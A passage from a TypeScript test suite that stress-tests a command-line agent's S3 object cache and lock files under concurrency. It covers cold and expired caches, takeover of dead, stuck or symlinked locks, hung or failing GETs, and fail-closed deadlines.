      const key = decodeURIComponent(r.path.split('?')[0] as string).replace(`/${BUCKET}/`, '');
      counts[key] = (counts[key] ?? 0) + 1;
    }
    return counts;
  };
  /** Lock files and set-aside locks left in the cache dir (none, once everyone has exited). */
  const leftovers = (dir: string) => readdirSync(dir).filter((f) => f.startsWith('l-') || f.endsWith('.old'));
  const lockPath = (dir: string, key: string) => join(dir, lockFileName(cacheFileName(key)));
  /** Lines that exit 0 must print exactly; anything else must be exit 1 with nothing on stdout. */
  const tally = (results: AgentRun[], expected: string) => {
    const wrong = results.filter(
      (r) => !(r.code === 0 && r.stdout === expected) && !(r.code === 1 && r.stdout === ''),
    );
    expect(wrong).toEqual([]);
    return { ok: results.filter((r) => r.code === 0).length, failed: results.filter((r) => r.code === 1) };
  };

  it('100 concurrent invocations on a cold cache GET each object once, and all print the right lines', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: PRINCIPALS }, ...ROOMY });
    const results = await storm(100, ['--config', path, 'u']);
    for (const r of results) expect(r).toMatchObject({ code: 0, stdout: EXPECTED });
    expect(getsPerObject()).toEqual(Object.fromEntries(OBJECTS.map((k) => [k, 1])));
    expect(leftovers(cacheDir)).toEqual([]);
  });

  it('an expired cache is revalidated once, and every invocation prints the new content', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: PRINCIPALS }, ...ROOMY });
    expect((await runAgent(['--config', path, 'u'], viaProxy())).stdout).toBe(EXPECTED);
    ageCache(cacheDir, 301); // past ttlSeconds (300): stale copies everywhere
    await put(userKey(PREFIX, 'carol'), ''); // carol's key removed
    proxy.clear();
    const results = await storm(50, ['--config', path, 'u']);
    // Nobody answers from the stale copy while the fresh one is being fetched: carol's key is gone for all.
    const fresh = renderLine('alice', alice) + bobLine + renderLine('alice', alice2);
    for (const r of results) expect(r).toMatchObject({ code: 0, stdout: fresh });
    expect(getsPerObject()).toEqual(Object.fromEntries(OBJECTS.map((k) => [k, 1])));
  });

  it('takes over locks left by a dead process, a stuck one (too old) and a planted symlink, following nothing', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: PRINCIPALS }, ...ROOMY });
    mkdirSync(cacheDir, { mode: 0o700 });
    const dead = spawnSync('true').pid as number; // exited: its pid is free
    const [admins, aliceKey, carolKey] = OBJECTS as [string, string, string];
    writeFileSync(lockPath(cacheDir, admins), `${dead} ${Date.now()}\n`, { mode: 0o600 });
    writeFileSync(lockPath(cacheDir, aliceKey), `${process.pid} ${Date.now() - 60_000}\n`, { mode: 0o600 });
    const victim = join(work, 'victim');
    writeFileSync(victim, 'untouched\n');
    symlinkSync(victim, lockPath(cacheDir, carolKey));
    const results = await storm(30, ['--config', path, 'u']);
    for (const r of results) expect(r).toMatchObject({ code: 0, stdout: EXPECTED });
    // 1 in the usual case; 2 if a taker sets aside the lock another has just created and a
    // third locks the path before it is linked back (fetch-lock.ts, takeOver).
    for (const n of Object.values(getsPerObject())) expect(n).toBeLessThanOrEqual(2);
    expect(leftovers(cacheDir)).toEqual([]);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
  });

  it('a holder whose GET hangs past its deadline: the lock is taken over and every invocation answers right', async () => {
    // The first GET of alice's object never answers. Default deadline (3 s): patience 1.5 s.
    const { path, cacheDir } = writeConfig({ users: { u: PRINCIPALS } });
    let first = true;
    proxy.options = {
      delay: (r) => {
        if (r.action !== 'GetObject') return undefined;
        if (r.path.includes('/users/alice/') && first) {
          first = false;
          return 60_000;
        }
        return S3_DELAY_MS;
      },
    };
    const results = await storm(20, ['--config', path, 'u']);
    // The stuck holder itself fails its GET at its deadline, then finds the taker's entry.
    for (const r of results) expect(r).toMatchObject({ code: 0, stdout: EXPECTED });
    expect(getsPerObject()[userKey(PREFIX, 'alice')]).toBeGreaterThanOrEqual(2);
    expect(leftovers(cacheDir)).toEqual([]);
  });

  it('S3 hanging for everyone: nobody waits past its deadline; no cache fails closed, a stale copy answers', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: PRINCIPALS }, deadlineMs: 1000 });
    proxy.options = { delay: (r) => (r.action === 'GetObject' ? 60_000 : undefined) };
    const cold = await storm(20, ['--config', path, 'u']);
    for (const r of cold) {
      expect(r).toMatchObject({ code: 1, stdout: '' });
      // Failed by its own deadline, not killed by the hard stop 1.5 s later.
      expect(r.stderr).toMatch(/cannot decide/);
      expect(r.stderr).not.toMatch(/exceeded: no answer/);
    }
    proxy.options = {};
    expect((await runAgent(['--config', path, 'u'], viaProxy())).stdout).toBe(EXPECTED);
    ageCache(cacheDir, 301);
    proxy.options = { delay: (r) => (r.action === 'GetObject' ? 60_000 : undefined) };
    const stale = await storm(20, ['--config', path, 'u']);
    for (const r of stale) {
      expect(r).toMatchObject({ code: 0, stdout: EXPECTED });
      expect(r.stderr).toMatch(/serving the cached copy from 30\ds ago/);
    }
    expect(leftovers(cacheDir)).toEqual([]);
  });

  it('a holder whose GET fails releases the lock: the waiters fetch themselves, nobody prints a wrong line', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: PRINCIPALS }, ...ROOMY });
    let first = true;
    proxy.options = {
      ...proxy.options,
      fault: (r) => {
        if (r.action !== 'GetObject' || !r.path.includes('/users/alice/') || !first) return undefined;
        first = false;
        return { status: 500, body: '<Error><Code>InternalError</Code></Error>' };
      },
    };
    const results = await storm(20, ['--config', path, 'u']);
    const { ok, failed } = tally(results, EXPECTED);
    // The holder fails closed as it did without the lock (no copy, S3 error), unless an entry
    // written meanwhile answers it; everyone else prints the right lines.
    expect(failed.length).toBeLessThanOrEqual(1);
    for (const f of failed) expect(f.stderr).toMatch(/answered 500 InternalError/);
    expect(ok).toBeGreaterThanOrEqual(19);
    expect(getsPerObject()[userKey(PREFIX, 'alice')]).toBeGreaterThanOrEqual(2);
    expect(leftovers(cacheDir)).toEqual([]);
  });
});
